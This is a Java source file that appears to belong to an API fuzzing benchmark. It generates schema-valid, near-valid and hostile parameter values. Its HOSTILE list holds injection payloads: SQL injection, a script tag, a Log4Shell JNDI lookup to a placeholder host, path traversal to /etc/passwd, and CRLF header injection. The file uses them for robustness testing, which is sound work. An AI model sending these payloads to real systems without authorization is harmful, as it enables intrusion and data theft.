package org.vigie.bench;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/** Values for parameters: right by their schema, nearly right, or meant to break something. */
final class ApiValues {

    private static final List<String> WORDS = List.of(
            "blender",
            "sourdough bread",
            "linux -windows",
            "\"open movie\"",
            "café",
            "自転車",
            "الدراجة",
            "lang:fr",
            "tag:cc0",
            "before:2020",
            "longer:10m",
            "channel:cosmos@tube.example",
            "t4FBJmuTG2a8BAZEKxFQc3",
            "é e\u0301",
            "🚲 bike",
            "https://tube.example/w/t4FBJmuTG2a8BAZEKxFQc3",
            "@cosmos@tube.example",
            "c++ c# .net",
            "the of and",
            "a");

    private static final List<String> HOSTILE = List.of(
            "\u0000",
            "a\u0000b",
            "\uD800",
            "\uFFFF",
            "\u202E",
            "..%2f..%2fetc/passwd",
            "../../etc/passwd",
            "' OR 1=1 --",
            "<script>alert(1)</script>",
            "${jndi:ldap://x.example/a}",
            "{{7*7}}",
            "%s%n%x",
            "\r\nX-Injected: 1",
            "*:*",
            "*",
            "?*~",
            "\"",
            "\"\"\"\"",
            "(((((((((",
            "a:b:c:d:",
            "-",
            "--",
            "-\"",
            "\\",
            "/.*(a+)+$/",
            "a* b* c* d*",
            "NaN",
            "1e999",
            "-1",
            "99999999999999999999",
            "0x10",
            "٣",
            "1_000",
            "null",
            "undefined",
            "[object Object]",
            "true\u0000",
            "z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚",
            "\t\n ",
            "AND OR NOT",
            "[1 TO 2]",
            "~0.5",
            "^",
            "a^9999",
            "\u2028",
            "-a -b -c",
            "host:",
            "::");

    private final Random random;

    ApiValues(Random random) {
        this.random = random;
    }

    String good(JsonNode schema, JsonNode example) {
        if (schema.has("enum")) {
            return any(schema.get("enum")).asText();
        }
        boolean shown = !example.isMissingNode() && random.nextInt(3) == 0;
        if (shown) {
            return example.isArray() ? any(example).asText() : example.asText();
        }
        return switch (schema.path("type").asText()) {
            case "integer" -> whole(schema);
            case "boolean" -> String.valueOf(random.nextBoolean());
            case "array" -> good(schema.path("items"), example.isMissingNode() ? example : example.get(0));
            default ->
                schema.path("format").asText().equals("uuid")
                        ? new java.util.UUID(random.nextLong(), random.nextLong()).toString()
                        : words(1 + random.nextInt(3));
        };
    }

    /** Large pages are right, but would make a long run of small ones. */
    private String whole(JsonNode schema) {
        long least = schema.path("minimum").asLong(0);
        long most = schema.path("maximum").asLong(Integer.MAX_VALUE);
        return switch (random.nextInt(20)) {
            case 0 -> String.valueOf(most);
            case 1 -> String.valueOf(least);
            case 2 -> String.valueOf(least + (long) (random.nextDouble() * (most - least)));
            default -> String.valueOf(Math.min(most, least + random.nextInt(25)));
        };
    }

    String nearlyGood(JsonNode schema, JsonNode example) {
        String good = good(schema, example);
        return switch (random.nextInt(10)) {
            case 0 -> "";
            case 1 -> " " + good + " ";
            case 2 -> good.toUpperCase(Locale.ROOT);
            case 3 -> "-" + good;
            case 4 -> good + ".0";
            case 5 -> good + "," + good;
            case 6 -> String.valueOf(schema.path("maximum").asLong(Integer.MAX_VALUE) + 1);
            case 7 -> String.valueOf(schema.path("minimum").asLong(0) - 1);
            case 8 -> good.isEmpty() ? "x" : good.substring(0, good.length() - 1);
            default -> "[" + good + "]";
        };
    }

    String hostile() {
        String one = HOSTILE.get(random.nextInt(HOSTILE.size()));
        return switch (random.nextInt(12)) {
            case 0 -> one.repeat(1 + random.nextInt(200));
            case 1 -> words(200);
            case 2 -> "a".repeat(random.nextInt(6_000));
            case 3 -> letters(1 + random.nextInt(60));
            case 4 -> one + words(2) + one;
            default -> one;
        };
    }

    private String words(int count) {
        List<String> words = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            words.add(WORDS.get(random.nextInt(WORDS.size())));
        }
        return String.join(" ", words);
    }

    /** From anywhere in Unicode. */
    private String letters(int count) {
        StringBuilder letters = new StringBuilder();
        for (int i = 0; i < count; i++) {
            letters.appendCodePoint(random.nextInt(random.nextBoolean() ? 0x500 : 0x20000));
        }
        return letters.toString();
    }

    private JsonNode any(JsonNode list) {
        return list.get(random.nextInt(list.size()));
    }
}
